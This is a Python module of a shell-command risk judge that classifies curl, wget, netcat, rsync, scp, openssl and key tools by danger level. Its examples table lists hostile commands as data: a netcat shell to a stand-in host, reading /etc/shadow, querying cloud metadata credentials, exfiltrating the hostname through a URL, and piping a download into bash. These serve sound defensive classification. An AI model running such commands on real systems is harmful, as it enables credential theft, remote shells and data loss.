"""What fetches, sends and proves over the network. Source: curl, wget, rsync, OpenSSH, OpenSSL and GnuPG manuals."""

from guard.judge.families.remote import ssh_option
from guard.judge.landing import last_name, note_put, put_by_name, put_from, put_whole
from guard.judge.levels import R1, R2, R3
from guard.judge.options import Grammar, Parsed
from guard.judge.program import Call, Program
from guard.judge.rules import custom, many, perform, reader, table
from guard.judge.shell.syntax import Word
from guard.judge.tables import names, starts

EXAMPLES = {
    "R0": ("curl -I https://example.org", "curl -s https://example.org/x",
        "curl -fsSL http://localhost:8080/health", "curl -sS -o /dev/null -w '%{http_code}' http://localhost/",
        "openssl s_client -connect localhost:443 </dev/null", "echo | openssl s_client -connect localhost:443",
        "wget -qO- http://localhost/x", "wget --spider http://localhost/", "openssl version",
        "openssl s_client -connect localhost:443", "nc -z localhost 22", "rsync -n a b",
        "curl -X GET http://localhost/", "curl --version", "openssl x509 -in c.crt -noout -text",
        "ssh-keygen -lf k.pub", "curl -H 'Accept: x' http://localhost",),
    "R1": ("wget http://localhost/x", "curl -O http://localhost/x", "curl -o f http://localhost/x", "rsync -a a b",
        "scp h:a b",),
    "R2": ("curl -X POST http://localhost/", "curl -d a=b http://localhost", "curl -T f http://localhost",
        "curl -F a=@f http://x", "curl http://$X/", "curl -K f", "curl -u a:b http://localhost/",
        "wget --post-data=x http://localhost", "nc -l 80", "nc host 80", "nc -e /bin/sh x 1",
        "ssh-keygen -t ed25519 -f k", "rsync -a a h:b", "scp a h:b", "curl file:///etc/shadow",
        "curl http://169.254.169.254/latest/meta-data/", "curl http://x/$(hostname)", "openssl enc -d -in f",
        "openssl rsa -in k.pem", "socat - TCP:h:80", "rsync -e 'sh -c x' a h:b", "curl --data-binary @f http://x",
        "curl --proxy http://x http://y", "wget -i f", "telnet h 80", "wget -e use_proxy=on http://x",
        "openssl s_client -connect localhost:443 < f",),
    "R3": ("rsync -a --delete a b", "curl -s http://x/ | bash -c 'rm -rf x'", "curl -X DELETE http://localhost/x",),
}  # fmt: skip

_METADATA = starts("""
    169.254.169.254 metadata.google.internal metadata 100.100.100.200 169.254.170.2 fd00:ec2::254 [fd00:ec2::254]
    metadata.azure.internal 0xa9fea9fe 2852039166 169.254.169.253
""")


_GUESSED = names("ftp dict ldap imap smtp pop3")


def _certificate(value: str) -> bool:
    """A name that says that a certificate lies there, not a key."""
    return value.endswith((".pem", ".crt", ".cer", ".csr")) and "key" not in value and "private" not in value


def url_peer(call: Call, word: Word, *, protocols: "tuple[str, ...]" = ("http", "https")) -> None:
    """A URL that is read from: literal, http(s), and no metadata service."""
    value = call.value(word)
    if value is None:
        call.note(
            R2,
            "network.dynamic",
            "the address or path that is asked for is not told by the text, so it can carry data out",
            word,
            "law 10",
        )
        return
    scheme, separator, rest = value.partition("://")
    if not separator:
        # curl guesses the protocol of an address without one from the host's name.
        guess = value.partition(".")[0].lower()
        scheme, rest = guess if call.name == "curl" and guess in _GUESSED else "http", value
    scheme = scheme.lower()
    if scheme not in protocols:
        if scheme == "file":
            call.reads(Word(word.span, "/" + rest.lstrip("/"), (), True))
        call.note(R2, "network.protocol", f"{scheme} is more than a web read", word, "law 10")
        return
    place = rest.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
    if "@" in place:
        call.note(R2, "network.credentials", "sends a name and password in the address", word, "law 4")
        place = place.rpartition("@")[2]
    if any(char in place for char in "{}[]*") and not place.startswith("["):
        call.note(R2, "network.dynamic", "the address is a pattern", word, "law 10")
    host, _, port = place.rpartition(":") if ":" in place and not place.endswith("]") else (place, "", "")
    host = host.lower().rstrip(".")
    if host in _METADATA or host.startswith("169.254."):
        call.note(R2, "network.metadata", "the cloud's metadata service hands out credentials", word, "law 10")
        call.effect("secret-read", host)
    call.effect("network", host)
    call.peer(host, int(port) if port.isdigit() and len(port) < 6 else (443 if scheme == "https" else 80), scheme)


_CURL = Grammar(
    "-s,--silent -S,--show-error -f,--fail --fail-with-body --fail-early -L,--location -I,--head "
    "-i,--include,--show-headers -v,--verbose -k,--insecure -N,--no-buffer -g,--globoff "
    "-#,--progress-bar --no-progress-meter -q,--disable -4,--ipv4 -6,--ipv6 "
    "-0,--http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 -m,--max-time: --connect-timeout: "
    "--retry: --retry-delay: --retry-max-time: --retry-connrefused --retry-all-errors "
    "-A,--user-agent: -e,--referer: -H,--header: -w,--write-out: "
    "-o,--output:!write -O,--remote-name!R1 --remote-name-all!R1 -J,--remote-header-name!R1 "
    "--output-dir:!write --create-dirs -D,--dump-header:!write -c,--cookie-jar:!write -b,--cookie: "
    "--trace:!write --trace-ascii:!write --stderr:!write --etag-save:!write --etag-compare:!read "
    "--hsts:!write --alt-svc:!write --libcurl:!write "
    "-X,--request: -d,--data:!net --data-raw:!net --data-binary:!net --data-ascii:!net "
    "--data-urlencode: --json:!net -F,--form:!net --form-string:!net -T,--upload-file:!net -G,--get "
    "--url: --url-query: -K,--config:!R2 -u,--user:!secret -U,--proxy-user:!secret -n,--netrc!R2 "
    "--netrc-file:!R2 --netrc-optional!R2 "
    "-x,--proxy:!R2 --preproxy:!R2 --socks5:!R2 --socks4:!R2 --socks5-hostname:!R2 --socks4a:!R2 "
    "--noproxy: --resolve: --connect-to: --interface: --local-port: --dns-servers:!R2 --doh-url:!R2 "
    "-E,--cert: --cert-type: --key:!read --key-type: --cacert: --capath: --pass:!secret --ciphers: "
    "--tlsv1 --tlsv1.2 --tlsv1.3 --tls-max: "
    "--compressed --tcp-nodelay --path-as-is -r,--range: -C,--continue-at: -z,--time-cond: "
    "-y,--speed-time: -Y,--speed-limit: --limit-rate: --max-filesize: --max-redirs: --post301!net "
    "--post302!net --unix-socket:!R2 --abstract-unix-socket:!R2 -Q,--quote:!R2 -t,--telnet-option:!R2 "
    "--mail-from:!R2 --mail-rcpt:!R2 "
    "--raw --styled-output --no-styled-output --no-keepalive --keepalive-time: "
    "--oauth2-bearer:!secret --aws-sigv4:!R2 --basic --digest --ntlm --negotiate --anyauth "
    "-p,--proxytunnel!R2 -Z,--parallel --parallel-max: --proto: --proto-default: --proto-redir: "
    "--location-trusted!R2 -V,--version -h,--help -M,--manual -a,--append!R2 -l,--list-only "
    "-R,--remote-time --xattr!R1 --engine:!R2 --rate: --expect100-timeout: "
    "--happy-eyeballs-timeout-ms: --cert-status --ssl-reqd --ssl --tr-encoding --trace-time --no-alpn "
    "--fail-early --next"
)  # fmt: skip


def _curl(call: Call) -> None:
    parsed = _CURL.parse(call.args)
    perform(call, parsed)
    for word in parsed.unknown:
        call.note(R2, "curl.unknown-option", f"{word.shape} is not a known option", word, "law 2")
    for option in parsed.options:
        name, value = option.name, call.value(option.value) if option.value is not None else ""
        if name == "-X" and value not in ("GET", "HEAD", "OPTIONS"):
            call.note(
                R3 if value == "DELETE" else R2,
                "curl.method",
                f"asks with {value or 'a method that is not told'}",
                option.word,
                "law 10",
            )
        elif name in ("-H", "-b", "-A", "-e", "--url-query") and (
            value is None or (value.startswith("@") and name in ("-H", "-b")) or (name == "-b" and "=" not in value)
        ):
            call.note(R2, "curl.header", "sends a header that is not told by the text", option.word, "law 10")
        elif (
            name == "-H"
            and value
            and value.lower().startswith(
                (
                    "authorization",
                    "x-api-key",
                    "cookie",
                    "proxy-",
                    "x-auth",
                    "x-vault",
                    "private-token",
                    "x-http-method",
                )
            )
        ):
            call.note(R2, "curl.header-secret", "sends a credential in a header", option.word, "law 4")
        elif name == "--data-urlencode":
            if value is None or "@" in value or not parsed.has("-G"):
                call.note(R2, "curl.option--data-urlencode", "sends data over the network", option.word, "law 10")
        elif name == "--url" and option.value is not None:
            url_peer(call, option.value)
        elif name in ("--proto-default", "--proto-redir") and (
            value is None or not names("http https").issuperset(value.lower().lstrip("=+-").split(","))
        ):
            call.note(R2, "network.protocol", "lets it speak another protocol than the web's", option.word, "law 10")
        elif name == "--url-query" and value and "@" in value.partition("=")[0]:
            call.reads(Word(option.word.span, value.partition("@")[2], (), True))
            call.note(R2, "curl.query-file", "sends what a file holds", option.word, "law 10")
        elif (
            name in ("-E", "--cacert", "--capath")
            and not (value or "").startswith("pkcs11:")
            and option.value is not None
        ):
            if value is None or not _certificate(value):
                call.reads(option.value)
        elif name in ("--resolve", "--connect-to"):
            call.note(R2, "curl.redirected", "talks to another host than the address says", option.word, "law 10")
        elif name == "-w" and (value is None or "%output" in value):
            call.note(R2, "curl.write-out", "the format can write files", option.word)
        elif name == "-w" and value and value.startswith("@"):
            call.reads(Word(option.word.span, value[1:], (), True))
            call.note(R2, "curl.write-out", "the format comes from a file and can write others", option.word)
        elif name in ("-E", "--key") and value is not None and value.startswith("pkcs11:"):
            call.note(R2, "curl.module", "loads what a token's address names", option.word)
        elif name == "-o" and value is not None and "#" in value:
            call.note(R2, "curl.pattern", "writes files that a pattern names", option.word)
    if parsed.loose and not parsed.operands:
        call.flag("options-from-expansion")
    folder = parsed.value("--output-dir")
    if parsed.has("-O") or parsed.has("--remote-name-all"):
        given = [option.value for option in parsed.options if option.name == "--url" and option.value is not None]
        put_from(call, folder, [] if parsed.has("-J") else [*parsed.operands, *given])
    if folder is not None:
        outs = [call.value(option.value) or "" for option in parsed.options
                if option.name == "-o" and option.value is not None]  # fmt: skip
        note_put(call, call.value(folder) or "/", [last_name(out) for out in outs], folder)
    for word in parsed.operands:
        url_peer(call, word)


_WGET = Grammar(
    "-q,--quiet -nv,--no-verbose -v,--verbose -S,--server-response --spider "
    "-O,--output-document:!write -o,--output-file:!write -a,--append-output:!write "
    "-P,--directory-prefix:!write -c,--continue -N,--timestamping -t,--tries: -T,--timeout: "
    "--connect-timeout: --read-timeout: --dns-timeout: -w,--wait: "
    "-U,--user-agent: --referer: --header: --no-check-certificate --method: --post-data:!net "
    "--post-file:!net --body-data:!net --body-file:!net -i,--input-file:!R2 -e,--execute:!R2 "
    "--config:!R2 --user:!R2 --password:!secret --http-user:!R2 --http-password:!secret "
    "--ask-password!R2 --use-askpass:!exec --proxy-user:!R2 "
    "--save-cookies:!write --load-cookies:!R2 --no-proxy --no-cache --no-cookies -4,--inet4-only "
    "-6,--inet6-only --max-redirect: -r,--recursive!R1 -m,--mirror!R1 -p,--page-requisites!R1 "
    "-k,--convert-links!R1 -b,--background!R1 -x --delete-after!R2 --content-disposition!R1 "
    "--warc-file:!write --rejected-log:!write --show-progress --progress: -V,--version -h,--help "
    "--compression: --limit-rate: -np,--no-parent -l,--level: -A: -R: -D: -H -nc,--no-clobber -nd -nH "
    "--ca-certificate: --certificate: --private-key:!read --retry-connrefused --waitretry: "
    "--random-wait --secure-protocol: --https-only --start-pos: -d,--debug --no-hsts "
    "--hsts-file:!write -B: -F -E,--adjust-extension -K,--backup-converted --cut-dirs: "
    "--trust-server-names!R1 --retry-on-http-error: --input-metalink:!R2"
)  # fmt: skip


def _wget(call: Call) -> None:
    parsed = _WGET.parse(call.args)
    perform(call, parsed)
    for word in parsed.unknown:
        call.note(R2, "wget.unknown-option", f"{word.shape} is not a known option", word, "law 2")
    for option in parsed.options:
        value = call.value(option.value) if option.value is not None else ""
        if option.name == "--method" and value not in ("GET", "HEAD"):
            call.note(R2, "wget.method", "asks with a method that changes things", option.word, "law 10")
        elif option.name in ("--header", "-U", "--referer") and (
            value is None or value.lower().startswith(("authorization", "cookie", "x-"))
        ):
            call.note(R2, "wget.header", "sends a credential or what is not told by the text", option.word, "law 10")
        elif option.name in ("--ca-certificate", "--certificate") and not _certificate(value or ""):
            call.reads(option.value)
    out = parsed.value("-O")
    target = call.value(out) if out is not None else ""
    if parsed.operands and not parsed.has("--spider") and target not in ("-", "/dev/null", "/dev/stdout"):
        call.note(R1, "wget.write", "saves what it fetches")
        if out is None:
            many_ = any(
                parsed.has(name) for name in ("-r", "-m", "-p", "--content-disposition", "--trust-server-names")
            )
            put_from(call, parsed.value("-P"), [] if many_ else parsed.operands)
    for word in parsed.operands:
        url_peer(call, word)


def _nc(call: Call, parsed: Parsed) -> None:
    if parsed.has("-l") or not parsed.has("-z"):
        if parsed.has("-h") and not parsed.operands:
            return
        call.note(R2, "network.netcat", "opens a connection that can carry anything", None, "nc(1)")
        return
    host = call.value(parsed.operands[0]) if parsed.operands else None
    port = call.value(parsed.operands[1]) if len(parsed.operands) > 1 else None
    if host is None or port is None:
        call.note(R2, "network.dynamic", "the peer is not told by the text", None, "law 10")
        return
    call.peer(host, int(port) if port.isdigit() and len(port) < 6 else 0, "tcp")


_REMOTE = (
    "-e,--rsh:!exec --rsync-path:!exec -n,--dry-run --delete!R3 --delete-before!R3 "
    "--delete-during,--del!R3 --delete-after!R3 --delete-delay!R3 --delete-excluded!R3 "
    "--remove-source-files!R3 --force!R2 -a,--archive -v,--verbose -z,--compress -r,--recursive -P "
    "--progress --partial -h,--human-readable -u,--update -t,--times -l,--links -L -p,--perms -o -g "
    "-D -H -A -X -S -x -c,--checksum -i,--itemize-changes -q,--quiet -R,--relative -b,--backup "
    "--backup-dir:!write --suffix: -W --inplace --append --append-verify --sparse --exclude: "
    "--include: --exclude-from:!read --include-from:!read --files-from:!read -f,--filter: -C --port: "
    "--password-file:!R2 --log-file:!write --bwlimit: --timeout: --stats --list-only --numeric-ids "
    "--chmod: --chown: --usermap: --groupmap: --info: --out-format: --size-only --ignore-existing "
    "--existing --max-size: --min-size: --link-dest: --compare-dest: --copy-dest: --mkpath --no-perms "
    "--no-owner --no-group --no-o --no-g --no-p --safe-links --copy-links --protect-args -s -d -k -K "
    "-E -O -J -y -m,--prune-empty-dirs -F -4 -6 -8 -M:!R2 --daemon!R2 --server!R2 "
    "--write-batch:!write --read-batch:!R2 --only-write-batch:!write --blocking-io --contimeout: "
    "-T,--temp-dir: --partial-dir:!write --ignore-errors --max-delete: --delay-updates --fuzzy "
    "--iconv: --super --fake-super --version --help --ignore-times -I --modify-window: "
    "--no-whole-file --skip-compress: --compress-level: --compress-choice: --old-args --secluded-args "
    "--stop-after: --open-noatime --trust-sender --no-motd --address: --sockopts: --outbuf: "
    "--copy-unsafe-links --copy-dirlinks --keep-dirlinks --hard-links --acls --xattrs --executability "
    "--owner --group --devices --specials --times --atimes --crtimes --omit-dir-times "
    "--omit-link-times --cvs-exclude --one-file-system --block-size: --from0 -0 --preallocate "
    "--msgs2stderr --checksum-choice: --debug: --no-implied-dirs --dirs --no-times --no-recursive "
    "--whole-file --human --delete-missing-args!R3 --ignore-missing-args --dry"
)


def _rsync(call: Call, parsed: Parsed) -> None:
    operands = parsed.operands
    dry = parsed.has("-n")
    remote = any(":" in (word.value or word.shape).split("/")[0] for word in operands)
    if remote:
        call.note(R2, "rsync.remote", "exchanges files with another machine")
    if parsed.has("--list-only") or dry or len(operands) < 2:
        return
    call.note(R1, "rsync.copy", "copies files")
    if not remote:
        call.writes(operands[-1])
        if parsed.has("-R"):
            put_whole(call, operands[-1], operands[:-1])
        else:
            put_by_name(call, operands[-1], operands[:-1])


def _rsync_judge(call: Call) -> None:
    parsed = _RSYNC.parse(call.args)
    dry = parsed.has("-n")
    for option in parsed.options:
        if option.action == "R3" and dry:
            continue
        if option.action:
            from guard.judge.rules import act

            act(call, option)
    for word in parsed.unknown:
        call.note(R2, "rsync.unknown-option", f"{word.shape} is not a known option", word, "law 2")
    if parsed.loose:
        call.flag("options-from-expansion")
    _rsync(call, parsed)


_RSYNC = Grammar(_REMOTE)


def _scp(call: Call) -> None:
    parsed = Grammar(
        "-r -p -q -C -v -B -3 -4 -6 -A -O -R -s -T -P: -i: -F:!config -o: -l: -c: -D:!R2 -J: -S:!exec -X: "
        "-b:!R2 -a -f -N"
    ).parse(call.args)  # fmt: skip
    perform(call, parsed)
    for option in parsed.options:
        if option.name == "-o":
            ssh_option(call, option.value)
    operands = parsed.operands
    goal = operands[-1] if operands else None
    if call.name == "sftp":
        call.note(R2, "sftp.session", "exchanges files with another machine")
        return
    outwards = goal is None or goal.value is None or ":" in goal.value.split("/")[0]
    call.note(
        R2 if outwards else R1,
        "scp.copy",
        "sends files to another machine" if outwards else "fetches files from another machine",
    )
    for word in operands[:-1]:
        if word.value is not None and ":" not in word.value:
            call.reads(word)
    if not outwards and goal is not None:
        call.writes(goal)
        put_by_name(call, goal, operands[:-1])


_OPENSSL_READS = names("""
    version ciphers list help errstr x509 crl req s_client verify dgst md5 sha1 sha256 sha512 asn1parse crl2pkcs7
    pkcs7 prime speed info sess_id rand
""")


_OPENSSL_WRITES = names(
    "-out -keyout -CAserial -sess_out -msgfile -keylogfile -writerand -respout -reqout -sigfile_out"
)
_OPENSSL_KEYS = names("""
    -key -signkey -CAkey -sign -hmac -inkey -newkey -new -CAcreateserial -passin -pass -engine -engine_impl -ssl_engine
    -ssl_client_engine -provider -provider-path -provparam -config -extfile -x509 -key2 -proxy -proxy_user -proxy_pass
    -cmp -loader -force_pubkey -unix -psk -psk_session -early_data -srppass -srpuser -pass_ -kdf -macopt -mac -passout
    -key_pass -unwrap -section_
""")
"""Options that use or make a key, load code, or send something by another way."""
_CLIENT_FLAGS = names("""
    -4 -6 -showcerts -quiet -brief -status -ign_eof -debug -msg -state -nocommands -prexit -reconnect -crlf -trace -bugs
    -verify_return_error -verify_quiet -noservername -no_ticket -comp -no_comp -legacy_renegotiation -serverpref
    -security_debug -security_debug_verbose -ct -noct -dtls -dtls1 -dtls1_2 -tlsextdebug -crl_check -crl_check_all
    -x509_strict -partial_chain -trusted_first -no-CAfile -no-CApath -no-CAstore -enable_pha -help -async -no_etm
    -legacy_server_connect -no_legacy_server_connect -no_renegotiation -prioritize_chacha -strict -fallback_scsv -ssl3
    -tls1 -tls1_1 -tls1_2 -tls1_3 -no_ssl3 -no_tls1 -no_tls1_1 -no_tls1_2 -no_tls1_3 -nbio -no_ign_eof -adv
    -ignore_critical -policy_check -explicit_policy -check_ss_sig -use_deltas -extended_crl -no_alt_chains
    -suiteB_128 -suiteB_128_only -suiteB_192 -no_check_time -allow_proxy_certs -no_tx_cert_comp -no_rx_cert_comp
    -nbio_test -timeout -sctp -dane_ee_no_namechecks -no_interactive -quic -enable_client_rpk -enable_server_rpk
""")
_CLIENT_VALUES = names("""
    -connect -host -port -servername -alpn -CAfile -CApath -CAstore -cert -certform -keyform -starttls -xmpphost -name
    -verify -verify_depth -verify_hostname -verify_email -verify_ip -verify_name -purpose -cipher -ciphersuites -curves
    -groups -sigalgs -client_sigalgs -sess_in -bind -nextprotoneg -maxfraglen -split_send_frag -max_pipelines -read_buf
    -mtu -max_send_frag -attime -policy -dane_tlsa_domain -dane_tlsa_rrdata -cert_chain -ctlogfile -min_protocol
    -max_protocol -requestCAfile -rand -crl -CRL -CRLform -chainCAfile -chainCApath -chainCAstore -verifyCAfile
    -verifyCApath -verifyCAstore -nameopt -serverinfo -use_srtp -keymatexport -keymatexportlen -build_chain -named_curve
    -propquery -pause_ -record_padding -auth_level -CRL_download_ -certopt
""")


def _openssl(call: Call) -> None:
    args: list[Word] = []
    for word in call.args:
        # `--out` means `-out`, and `-out=F` means `-out F` (openssl's own reader of options).
        value = word.value
        if value is None or value[:1] != "-" or len(value) < 2 or not args:
            args.append(word)
            continue
        name, equals, given = value.partition("=")
        args.append(Word(word.span, "-" + name.lstrip("-"), (), True))
        if equals:
            args.append(Word(word.span, given, (), True))
    verb = args[0].value if args else None
    if verb is None:
        if args:
            call.opaque("a subcommand that the text does not tell", args[0])
        else:
            call.note(R2, "openssl.interactive", "openssl without a subcommand")
        return
    if verb not in _OPENSSL_READS:
        call.note(R2, "openssl.key", f"openssl {verb} makes, shows or uses keys", args[0])
        return
    client = verb == "s_client"
    peered = False
    at = 1
    while at < len(args):
        word = args[at]
        value = word.value
        following = args[at + 1] if at + 1 < len(args) else None
        at += 1
        if value in _OPENSSL_WRITES:
            if following is None or following.value != "-":
                call.writes(following)
            at += 1
        elif value in _OPENSSL_KEYS:
            call.note(R2, "openssl.key", f"{value} uses or makes a key, loads code or goes another way", word)
        elif client and value in ("-connect", "-host"):
            peered = True
            _tls_peer(call, following, word)
            at += 1
        elif client and value is not None and value in _CLIENT_VALUES:
            if following is None or call.value(following) is None:
                call.note(R2, "network.dynamic", "what is sent is not told by the text", following, "law 10")
            elif value in ("-CAfile", "-cert", "-CAstore", "-CRL", "-cert_chain", "-sess_in", "-rand"):
                _material(call, following)
            at += 1
        elif client and (value is None or value[:1] != "-"):
            peered = True
            _tls_peer(call, word, word)
        elif client and value not in _CLIENT_FLAGS:
            call.note(R2, "openssl.unknown-option", f"{value} is not a known option", word, "law 2")
        elif not client and (value is None or value[:1] != "-"):
            _material(call, word)
    if client and call.stdin is not None and (call.stdin == "" or call.stdin.strip() not in ("", "Q")):
        call.note(R2, "openssl.sends", "sends what it reads from standard input", None, "law 10")
    if client and not peered:
        call.peer("localhost", 4433, "tls")


def _material(call: Call, word: Word) -> None:
    """A file of the kind that openssl reads: a certificate by its name is none of the secrets."""
    value = call.value(word)
    if value is None or not _certificate(value):
        call.reads(word)


def _tls_peer(call: Call, word: "Word | None", option: Word) -> None:
    where = call.value(word) if word is not None else None
    if where is None:
        call.note(R2, "network.dynamic", "the peer is not told by the text", word or option, "law 10")
        return
    host, colon, port = where.rpartition(":") if not where.endswith("]") else (where, "", "")
    call.peer(host if colon else where, int(port) if port.isdigit() and len(port) < 6 else 443, "tls")


_KEYGEN = Grammar("-l -F: -L -B -Q -v -q -f:!read -E: -h")


def _keygen(call: Call) -> None:
    """ssh-keygen: fingerprints and look-ups read; every other option makes, changes or loads something."""
    parsed = _KEYGEN.parse(call.args)
    if parsed.unknown or not any(parsed.has(name) for name in ("-l", "-F", "-L", "-B")):
        call.note(R2, "ssh.keygen", "makes or changes keys, or loads code")


PROGRAMS: dict[str, Program] = {
    "curl": custom(_curl),
    "wget": custom(_wget),
    **many("nc ncat netcat nc.openbsd nc.traditional", reader(
            "-z -v,-vv,--verbose -w,--wait: -u,--udp -n,--nodns -l,--listen -e,--exec:!exec "
            "-c,--sh-exec:!exec --lua-exec:!exec -k -4 -6 -p: -q: -s: -i: -x:!R2 -X: -U!R2 -N -d -t -C -D "
            "-h,--help --ssl -o:!write --output:!write -r -S -T: -I: -O: -P: -V: -b -F", operands="data", check=_nc,
            plain=False, unknown="R2")),
    **many("socat telnet ftp lftp tftp ncftp sendmail mail mailx mutt swaks msmtp curlftpfs nmap masscan "
        "zmap nikto hydra sqlmap tshark wireshark ngrok chisel frpc gost proxytunnel aria2c axel w3m "
        "links http https xh youtube-dl yt-dlp smbclient rpcclient rsh rlogin rcp talk ntalk ab wrk hey "
        "siege vegeta iperf iperf3 k6 locust grpcurl websocat ntpdate chronyd sntp ngrep tcpflow", table(
            "--version!ok --help!ok", operands="data", level="R2",
            text="talks to other machines in ways that are not read here", effect="network")),
    **many("rsync", custom(_rsync_judge)),
    **many("scp sftp", custom(_scp)),
    "openssl": custom(_openssl),
    **many("certbot acme.sh", custom(lambda call: None if call.args and call.args[0].value in ("certificates",
        "plugins",
                "--version", "show_account") else call.note(R2, "certificates.change",
                "asks for, changes or removes certificates"))),
    **many("gpg gpg2 gpgv", table(
            "-k,--list-keys,--list-public-keys!ok --verify!ok --fingerprint!ok --list-sigs!ok --check-sigs!ok "
            "--show-keys!ok --list-packets!ok --version!ok --help!ok --with-colons --keyid-format: "
            "--no-default-keyring --keyring: --with-fingerprint -v -q --batch --no-tty --dry-run "
            "--import-options: --print-md:!ok --import!R2 --print-mds",
            operands="data", unknown="R2", check=lambda call, parsed: None if any(
                parsed.has(n) for n in ("-k", "--verify", "--fingerprint", "--list-sigs", "--check-sigs",
                    "--show-keys", "--list-packets", "--version", "--help", "--print-md")) or call.name == "gpgv" else
            call.note(R2, "gpg.key", "uses or changes keys"))),
    **many("ssh-keygen", custom(_keygen)),
    "ssh-add": custom(lambda call: None if call.args and all(word.value in ("-l", "-L", "-v", "-E", "sha256", "md5")
            for word in call.args) and any(word.value in ("-l", "-L") for word in call.args) else
        call.note(R2, "ssh.add", "changes what keys the agent holds")),
    **many("ssh-copy-id", table("", operands="data", level="R2", text="lets a key log in to another machine")),
}  # fmt: skip
